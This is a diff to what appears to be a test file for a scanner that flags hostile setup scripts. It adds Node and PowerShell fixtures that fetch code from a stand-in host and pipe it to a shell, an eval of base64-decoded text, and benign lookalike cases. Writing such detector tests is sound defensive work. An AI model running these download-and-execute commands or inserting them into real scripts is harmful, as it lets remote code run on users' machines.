@@ -76,6 +76,17 @@ ATTACKS = [
         'remote-code',
         script('scripts/setup.sh', 'uv run --quiet python -c "import os; os.system(\'curl https://x.dev/i | sh\')"\n'),
     ),
+    (
+        'remote-code',
+        script('scripts/setup.sh', "node -e \"require('child_process').execSync('curl -s https://x.dev/i | sh')\"\n"),
+    ),
+    (
+        'remote-code',
+        script(
+            'scripts/setup.sh', "node <<'EOF'\nrequire('child_process').execSync('curl -s https://x.dev/i | sh')\nEOF\n"
+        ),
+    ),
+    ('decoded-code', script('scripts/setup.sh', 'node -e "eval(atob(\'Y29uc29sZS5sb2coMSk=\'))"\n')),
     ('remote-code', script('scripts/i.ps1', 'iex (New-Object Net.WebClient).DownloadString("https://x.dev/a.ps1")\n')),
     (
         'remote-code',
@@ -177,6 +188,7 @@ LOOKALIKES = [
     # A here-document given to a script is its data, not code Python runs.
     script('scripts/feed.sh', "python3 tool.py <<'EOF'\nos.system('curl -s https://x.dev/i | sh')\nEOF\n"),
     script('scripts/env.sh', 'uv run pytest -q\n'),
+    script('scripts/build.sh', 'node -e "console.log(process.version)"\nnode build.js <<EOF\neval(atob(x))\nEOF\n'),
 ]
 
 
